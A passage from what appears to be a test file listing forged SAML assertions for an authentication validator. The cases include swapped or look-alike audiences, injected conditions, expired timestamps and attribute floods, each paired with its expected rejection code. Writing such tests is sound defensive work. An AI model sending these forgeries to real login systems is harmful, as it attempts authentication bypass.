    right.replace(/NotOnOrAfter="[^"]+"/, 'NotOnOrAfter="tomorrow"'),
  ),
  provider('no conditions', 'conditions_missing', () => ({ conditions: '' })),
  conditions('two conditions', 'conditions_missing', (right) => right + right),
  conditions('no audience', 'audience_missing', (right) =>
    right.replace(/<saml:AudienceRestriction>[\s\S]*<\/saml:AudienceRestriction>/, ''),
  ),
  conditions('an empty restriction', 'audience_wrong', (right) =>
    right.replace(/<saml:Audience>[^<]*<\/saml:Audience>/, ''),
  ),
  conditions('another audience', 'audience_wrong', (right) =>
    right.replace(/<saml:Audience>[^<]*/, '<saml:Audience>https://evil.test'),
  ),
  conditions("another organization's audience", 'audience_wrong', (right) => right.replace(own, '/saml/globex/')),
  conditions('an audience that only begins like ours', 'audience_wrong', (right) =>
    right.replace('</saml:Audience>', '.evil</saml:Audience>'),
  ),
  conditions('an audience in other letters', 'audience_wrong', (right) => right.replace('/metadata', '/METADATA')),
  conditions('a second restriction without us', 'audience_wrong', (right) =>
    right.replace(
      '</saml:Conditions>',
      '<saml:AudienceRestriction><saml:Audience>x</saml:Audience></saml:AudienceRestriction></saml:Conditions>',
    ),
  ),
  conditions('a condition that nobody knows', 'condition_unknown', (right) =>
    right.replace('</saml:Conditions>', '<x:Delegation xmlns:x="urn:x"/></saml:Conditions>'),
  ),
  conditions('an abstract condition', 'condition_unknown', (right) =>
    right.replace('</saml:Conditions>', '<saml:Condition/></saml:Conditions>'),
  ),
  conditions('conditions that begin later', 'not_yet_valid', (right, { now }) =>
    right.replace(/NotBefore="[^"]+"/, `NotBefore="${moment(now, 61)}"`),
  ),
  conditions('conditions that have ended', 'expired', (right, { now }) =>
    right.replace(/NotOnOrAfter="[^"]+"/, `NotOnOrAfter="${moment(now, -60)}"`),
  ),
  conditions('a beginning that is no time', 'time_malformed', (right) =>
    right.replace(/NotBefore="[^"]+"/, 'NotBefore="0"'),
  ),
  conditions('an end that is no day', 'time_malformed', (right) =>
    right.replace(/NotOnOrAfter="[^"]+"/, 'NotOnOrAfter="2026-13-40T00:00:00Z"'),
  ),
  aged('an assertion from the future', 'not_yet_valid', ({ now }) => `IssueInstant="${moment(now, 120)}"`),
  aged('an assertion of an hour ago', 'too_old', ({ now }) => `IssueInstant="${moment(now, -3_600)}"`),
  aged('an assertion of no time', 'time_malformed', () => ''),
  aged('an assertion of a time that is none', 'time_malformed', () => 'IssueInstant="now"'),
  provider('nobody who signed in', 'authn_statement_missing', () => ({ statement: '' })),
  provider('a session that is over', 'session_over', ({ setting: { now } }) => ({
    statement: forger
      .statement(now)
      .replace(/SessionNotOnOrAfter="[^"]+"/, `SessionNotOnOrAfter="${moment(now, -61)}"`),
  })),
  provider('a session whose end is no time', 'time_malformed', ({ setting: { now } }) => ({
    statement: forger.statement(now).replace(/SessionNotOnOrAfter="[^"]+"/, 'SessionNotOnOrAfter="never"'),
  })),
  provider('too many attributes', 'attributes_too_many', () => ({
    attributes: forger.attributes(Object.fromEntries(Array.from({ length: 201 }, (_, n) => [`a${n}`, ['x']]))),
  })),
  provider('too many values', 'attributes_too_many', () => ({
    attributes: forger.attributes({ groups: Array.from({ length: 2_001 }, (_, n) => `g${n}`) }),
  })),
]

export const forgeries: readonly Forgery[] = [
  ...documents,
  ...answers,
  ...signatures,
  ...wrappings,
  ...encrypted,
  ...assertions,
]
